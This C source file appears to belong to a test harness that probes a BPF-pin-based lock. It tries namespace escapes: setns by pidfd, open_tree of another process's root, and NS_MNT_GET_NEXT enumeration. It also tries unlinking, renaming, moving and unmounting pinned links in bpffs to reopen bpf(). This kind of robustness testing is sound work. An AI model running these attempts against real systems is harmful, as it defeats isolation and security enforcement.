/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Namespaces of the processes, and the file system where the lock's links are
 * pinned.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/magic.h>
#include <linux/nsfs.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>

#include "attack.h"
#include "code.h"

#ifndef NS_MNT_GET_NEXT
struct mnt_ns_info {
	uint32_t size, nr_mounts;
	uint64_t mnt_ns_id;
};
#define NS_MNT_GET_NEXT _IOR(NSIO, 11, struct mnt_ns_info)
#endif

static void
try_setns_pidfd(const struct attack *a, int target, struct result *r)
{
	auto_close int fd = (int)syscall(SYS_pidfd_open, a->pid[target], 0);

	if (setns(fd, CLONE_NEWNS) != 0)
		result_errno(r, "setns");
	else
		result_set(r, VERDICT_READ, "its mounts are ours");
}

static void
try_ns_files(const struct attack *a, int target, struct result *r)
{
	static const char *const names[] = { "ns/mnt", "ns/pid", "ns/net",
		"ns/ipc", "ns/uts", "ns/user", "ns/cgroup", "ns/time" };
	unsigned opened = 0;
	int errnum = 0;

	for (size_t i = 0; i < ARRAY_LEN(names); i++) {
		auto_close int fd = open_of(a->pid[target], names[i], O_RDONLY);

		opened += fd >= 0;
		errnum = fd < 0 ? errno : errnum;
	}
	errno = errnum;
	if (opened > 0)
		result_set(r, VERDICT_READ, "%u of %zu open", opened,
		    ARRAY_LEN(names));
	else
		result_errno(r, "open");
}

/* Newer kernels hand out the next mount namespace without asking for rights. */
static void
try_ns_ioctl(const struct attack *a, int target, struct result *r)
{
	struct mnt_ns_info info = { .size = sizeof(info) };
	int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	unsigned entered = 0, seen = 0;
	int next;

	(void)a;
	(void)target;
	while ((next = ioctl(fd, NS_MNT_GET_NEXT, &info)) >= 0 && seen < 64) {
		seen++;
		entered += setns(next, CLONE_NEWNS) == 0;
		(void)close(fd);
		fd = next;
	}
	if (seen > 0)
		result_set(r, entered > 0 ? VERDICT_READ : VERDICT_NOTHING,
		    "%u namespaces handed out, %u entered", seen, entered);
	else
		result_errno(r, "NS_MNT_GET_NEXT");
	(void)close(fd);
}

static void
try_ns_parent(const struct attack *a, int target, struct result *r)
{
	auto_close int fd = open("/proc/self/ns/pid", O_RDONLY | O_CLOEXEC);
	int up = ioctl(fd, NS_GET_PARENT);

	(void)a;
	(void)target;
	if (up < 0)
		result_errno(r, "NS_GET_PARENT");
	else
		result_set(r, VERDICT_NOTHING, "a parent namespace");
}

/* Copies the tree of mounts below its root to a place of ours. */
static void
try_open_tree(const struct attack *a, int target, struct result *r)
{
	char path[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/root",
	    (int)a->pid[target]);
	fd = (int)syscall(SYS_open_tree, AT_FDCWD, path,
	    OPEN_TREE_CLONE | AT_RECURSIVE);
	if (fd < 0)
		result_errno(r, "open_tree");
	else
		result_set(r, VERDICT_READ, "its root is ours");
}

/* --- pins -------------------------------------------------------------------- */

static bool
is_bpffs(const char *path)
{
	struct statfs fs;

	return statfs(path, &fs) == 0 && fs.f_type == BPF_FS_MAGIC;
}

struct pins {
	unsigned seen, removed, moved;
	int errnum;
};

static void
take_pins(const char *dir, struct pins *p)
{
	char path[600], other[620];
	DIR *list = opendir(dir);
	struct dirent *e;

	while (list != NULL && (e = readdir(list)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		p->seen++;
		(void)snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		(void)snprintf(other, sizeof(other), "%s.moved", path);
		if (rename(path, other) == 0)
			p->moved++;
		if (unlink(path) == 0 || unlink(other) == 0)
			p->removed++;
		else
			p->errnum = errno;
	}
	if (list != NULL)
		(void)closedir(list);
}

/* Each way by which a mounted bpffs could go away. */
static void
take_mount(const char *dir, char *text, size_t size)
{
	int move, lazy;

	(void)mkdir("/tmp/attack-move", 0700);
	(void)mount("t", "/tmp/attack-move", "tmpfs", 0, NULL);
	(void)mkdir("/tmp/attack-move/in", 0700);
	move = mount(dir, "/tmp/attack-move/in", NULL, MS_MOVE, NULL) == 0
	    ? 0
	    : errno;
	lazy = umount2(dir, MNT_DETACH) == 0 ? 0 : errno;
	(void)umount2("/tmp/attack-move", MNT_DETACH);
	(void)snprintf(text, size, "move: %s, umount: %s", strerror(move),
	    strerror(lazy));
}

/* Looks in the folders of this root for a bpffs, and takes it apart. */
static void
search_root(const char *root, struct result *r)
{
	char path[600], names[200] = "", ways[120] = "";
	struct pins p = { 0 };
	unsigned found = 0;
	DIR *list = opendir(root);
	struct dirent *e;

	if (list == NULL) {
		result_errno(r, "list");
		return;
	}
	while ((e = readdir(list)) != NULL) {
		if (e->d_name[0] == '.')
			continue;
		(void)snprintf(path, sizeof(path), "%s/%s", root, e->d_name);
		if (strlen(names) + strlen(e->d_name) + 2 < sizeof(names)) {
			size_t at = strlen(names);

			(void)snprintf(names + at, sizeof(names) - at, " %s",
			    e->d_name);
		}
		if (!is_bpffs(path))
			continue;
		found++;
		take_pins(path, &p);
		take_mount(path, ways, sizeof(ways));
	}
	(void)closedir(list);
	if (found == 0)
		result_set(r, VERDICT_NOTHING, "no bpffs among%s",
		    names[0] != '\0' ? names : " nothing");
	else
		result_set(r,
		    p.removed + p.moved > 0 ? VERDICT_FOUND : VERDICT_REFUSED,
		    "%u pins, %u moved, %u removed (%s); %s", p.seen, p.moved,
		    p.removed, strerror(p.errnum), ways);
}

/* A kernel thread's root is the one that the initramfs left below ours. */
static void
try_kernel_root(const struct attack *a, int target, struct result *r)
{
	(void)a;
	(void)target;
	search_root("/proc/2/root", r);
}

/* Takes the root off a namespace of its own and looks at what is below. */
static void
try_beneath(const struct attack *a, int target, struct result *r)
{
	int ns;

	(void)a;
	(void)target;
	if (unshare(CLONE_NEWNS) != 0 ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0) {
		result_errno(r, "unshare");
		return;
	}
	ns = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	if (umount2("/", MNT_DETACH) != 0)
		result_errno(r, "umount of the root");
	else if (setns(ns, CLONE_NEWNS) != 0)
		result_errno(r, "setns to what is below");
	else
		search_root("/", r);
}

static void
try_mounted(const struct attack *a, int target, struct result *r)
{
	struct pins p = { 0 };
	char ways[120];

	(void)a;
	(void)target;
	if (!is_bpffs("/sys/fs/bpf")) {
		result_set(r, VERDICT_NOTHING, "none is mounted");
		return;
	}
	take_pins("/sys/fs/bpf", &p);
	take_mount("/sys/fs/bpf", ways, sizeof(ways));
	result_set(r, p.removed + p.moved > 0 ? VERDICT_FOUND : VERDICT_NOTHING,
	    "%u pins, %u moved, %u removed; %s", p.seen, p.moved, p.removed,
	    ways);
}

/* What all of this was for. */
static void
try_after(const struct attack *a, int target, struct result *r)
{
	(void)a;
	(void)target;
	if (code_bpf_is_open())
		result_set(r, VERDICT_FOUND, "bpf() is open");
	else
		result_errno(r, "bpf()");
}

static const struct attempt list[] = {
	{ "ns-setns", "setns to its mounts by pidfd", try_setns_pidfd, true,
	    0 },
	{ "ns-files", "open /proc/PID/ns/*", try_ns_files, true, 0 },
	{ "ns-open-tree", "open_tree of /proc/PID/root", try_open_tree, true,
	    0 },
	{ "ns-next", "ask for the next mount namespace", try_ns_ioctl, false,
	    0 },
	{ "ns-parent", "ask for the parent namespace", try_ns_parent, false,
	    0 },
	{ "pins-mounted", "unlink, rename, move, umount in /sys/fs/bpf",
	    try_mounted, false, 0 },
	{ "pins-kernel-root", "the same below a kernel thread's root",
	    try_kernel_root, false, 0 },
	{ "pins-beneath", "the same below the root, taken off", try_beneath,
	    false, 0 },
	{ "lock-after-mounts", "use bpf() after that", try_after, false, 0 },
};

const struct group mounts_group = { "mounts", "namespaces and pins", list,
	ARRAY_LEN(list) };
